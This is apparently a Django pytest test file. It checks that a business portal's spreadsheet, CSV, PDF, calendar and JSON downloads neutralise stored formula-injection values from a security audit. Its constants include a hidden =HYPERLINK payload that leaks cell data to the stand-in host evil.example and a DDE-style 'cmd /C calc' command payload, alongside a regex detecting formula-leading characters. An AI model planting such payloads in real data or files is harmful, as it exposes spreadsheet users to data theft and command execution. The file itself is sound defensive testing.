"""Every file the portal lets people download, built from data that carries the two attacks of
the security audit (issue 14): a business name that hides "=HYPERLINK(...)" behind U+0001
(finding 1) and notes pasted from Word with a vertical tab U+000B (finding 6). Each file
downloads (no 500) and every cell in it is inert text.

The hostile values are stored as data stored before input refused them would be (factories
save without ``full_clean``), and placed where each file shows them: the business name (every
file), the participant's name and the kelurahan (roster, registry export, import template),
the report's unit and note (streamed CSV), the target's note (dashboard files)."""

import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from businesses.models import Kelurahan
from recovery import aggregates, report_files
from recovery.models import Measure, Target
from recovery.selectors import month_add, period_default
from recovery.tests.factories import MonthlyReportFactory, VerifiedBusinessFactory
from safetext import cells
from trainings.tests.factories import RegistrationFactory, TrainingSessionFactory

NAME = '\x01=HYPERLINK("http://evil.example/?"&A1,"klik")'
NAME_IN_FILE = '\'=HYPERLINK("http://evil.example/?"&A1,"klik")'
PARTICIPANT = "\x1f@SUM(1+1)*cmd|' /C calc'!A0"
KELURAHAN = "\x0b\uff1dKoto Nan IV"  # a full-width "=" behind a vertical tab
UNIT = "\x9b+kg"  # C1, then a plus
NOTE = "Target\x0bdari Word"
TARGET_NOTE = "\x0b=1+1 dari Word"

# A cell that a spreadsheet would still run, or that it could not hold.
_FORMULA = re.compile(r"^ *[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")


def _inert(text: str, where: str) -> None:
    assert not cells.ILLEGAL.search(text), (where, text)
    assert not (_FORMULA.match(text) and not _NUMBER.fullmatch(text)), (where, text)


def check_xlsx(data: bytes) -> list[str]:
    """Every text cell of every sheet: no formula in the XML, each a text cell, inert."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    texts = []
    for sheet in load_workbook(io.BytesIO(data)).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    _inert(cell.value, f"{sheet.title}!{cell.coordinate}")
                    texts.append(cell.value)
                elif cell.value is not None:
                    assert cell.data_type in ("n", "b", "d"), (sheet.title, cell.coordinate, cell.data_type)
    return texts


def check_csv(data: bytes) -> list[str]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")
    values = [value for row in csv.reader(io.StringIO(text[1:], newline="")) for value in row]
    for value in values:
        _inert(value, "csv")
    return values


@pytest.fixture
def hostile(reference):
    period = period_default()
    kelurahan = Kelurahan.objects.order_by("code").first()
    Kelurahan.objects.filter(pk=kelurahan.pk).update(name=KELURAHAN)
    business = VerifiedBusinessFactory(name=NAME, kelurahan=kelurahan)
    VerifiedBusinessFactory(name="Galamai Uni Ros")
    MonthlyReportFactory(business=business, period=period, turnover=15_000_000, production_unit=UNIT, problem_note=NOTE)
    Target.objects.create(measure=Measure.SHARE_RECOVERED, period=period, value=60, note=TARGET_NOTE)
    aggregates.summaries_refresh(periods=[month_add(period, -i) for i in range(12)], before_after=True)
    session = TrainingSessionFactory()
    RegistrationFactory(session=session, business=business, participant_name=PARTICIPANT)
    return {"period": period, "business": business, "session": session}


def _get(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200, (url, response.status_code)
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_the_monthly_report_emailed_to_officials_is_inert(client, hostile, official):
    """Finding 1: the Usaha sheet held a live =HYPERLINK (escaped before the U+0001 was stripped)."""
    monthly = report_files.monthly_report_build(period=hostile["period"])
    client.force_login(official)
    texts = check_xlsx(_get(client, reverse("recovery:report-file-download", args=[monthly.pk, "xlsx"])))
    assert NAME_IN_FILE in texts
    assert _get(client, reverse("recovery:report-file-download", args=[monthly.pk, "pdf"])).startswith(b"%PDF")


def test_a_background_export_is_inert(client, hostile, official):
    export = report_files.export_start(actor=official, query="")
    report_files.export_build(report_file_id=export.pk)
    client.force_login(official)
    texts = check_xlsx(_get(client, reverse("recovery:report-file-download", args=[export.pk, "xlsx"])))
    assert NAME_IN_FILE in texts


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_the_dashboard_files_download_with_a_note_pasted_from_word(client, hostile, official, fmt):
    """Finding 6: a target note with U+000B made the dashboard's .xlsx answer 500 for everyone."""
    client.force_login(official)
    data = _get(client, reverse("recovery:dashboard-export", args=[fmt]))
    texts = check_xlsx(data) if fmt == "xlsx" else check_csv(data)
    assert "'=1+1 dari Word" in texts


def test_the_streamed_csv_of_every_report_is_inert(client, hostile, staff):
    """Finding 1: the streamed CSV carried the name raw, U+0001 and all."""
    client.force_login(staff)
    values = check_csv(_get(client, reverse("recovery:dashboard-reports-csv")))
    assert NAME_IN_FILE in values and "'+kg" in values and "Targetdari Word" in values


def test_the_roster_downloads_with_a_control_character_in_a_business_name(client, hostile, staff):
    """Finding 6: a business name with U+0001 made every roster .xlsx it is on answer 500."""
    client.force_login(staff)
    texts = check_xlsx(_get(client, reverse("trainings:roster-xlsx", args=[hostile["session"].pk])))
    assert NAME_IN_FILE in texts and "'@SUM(1+1)*cmd|' /C calc'!A0" in texts and "'\uff1dKoto Nan IV" in texts
    assert _get(client, reverse("trainings:roster-pdf", args=[hostile["session"].pk])).startswith(b"%PDF")


@pytest.mark.parametrize("file_format", [0, 1], ids=["xlsx", "csv"])
def test_the_registry_export_in_the_admin_is_inert(client, hostile, staff, file_format):
    """Finding 1: the admin CSV carried the name raw."""
    from businesses.resources import COLUMNS

    client.force_login(staff)
    fields = {f"businessresource_{c}": "on" for c in COLUMNS}
    response = client.post(reverse("admin:businesses_business_export"), {"format": str(file_format), "resource": "0", **fields})
    assert response.status_code == 200
    texts = check_xlsx(response.content) if file_format == 0 else check_csv(response.content)
    assert NAME_IN_FILE in texts


@pytest.mark.parametrize("url", ["admin:businesses_business_import_template", "admin:recovery_monthlyreport_import_template"])
def test_the_import_templates_are_inert(client, hostile, staff, url):
    staff.is_superuser = True  # the report import is for a narrower group; the file is the point here
    staff.save()
    client.force_login(staff)
    texts = check_xlsx(_get(client, reverse(url)))
    if "business" in url:
        assert "'\uff1dKoto Nan IV" in texts


def test_a_certificate_of_attendance_is_issued_and_downloads_for_a_hostile_name(client, hostile, staff):
    from datetime import timedelta

    from django.utils import timezone

    from trainings import certificates
    from trainings.models import Attendance, SessionStatus

    starts = timezone.now() - timedelta(days=1, hours=4)
    session = TrainingSessionFactory(starts_at=starts, ends_at=starts + timedelta(hours=3), status=SessionStatus.FINISHED)
    registration = RegistrationFactory(session=session, business=hostile["business"], participant_name=PARTICIPANT)
    Attendance.objects.create(registration=registration, checked_in_by=staff)
    certificates.certificate_issue(registration_id=registration.pk)
    client.force_login(staff)
    assert _get(client, reverse("trainings:certificate-download", args=[registration.pk])).startswith(b"%PDF")


def test_the_calendar_files_and_my_data_download_with_control_characters_stored(client, hostile):
    """Not spreadsheets, but downloads all the same: iCalendar drops the control characters its
    text may not hold and JSON escapes them (\\u0001); neither runs formulas, neither may fail."""
    import json

    session = hostile["session"]
    type(session).objects.filter(pk=session.pk).update(title="Jualan\x0b online =1+1", venue="Aula\x01")
    for url in (reverse("trainings:session-ics", args=[session.pk]), reverse("trainings:feed")):
        body = _get(client, url).decode("utf-8")
        assert body.startswith("BEGIN:VCALENDAR") and "Jualan online =1+1" in body and "Aula\r\n" in body
    client.force_login(hostile["business"].owner.user)
    body = _get(client, reverse("my-data")).decode("utf-8")
    assert "\\u0001=HYPERLINK" in body and "\x01" not in body  # escaped by JSON, never raw
    assert json.loads(body)
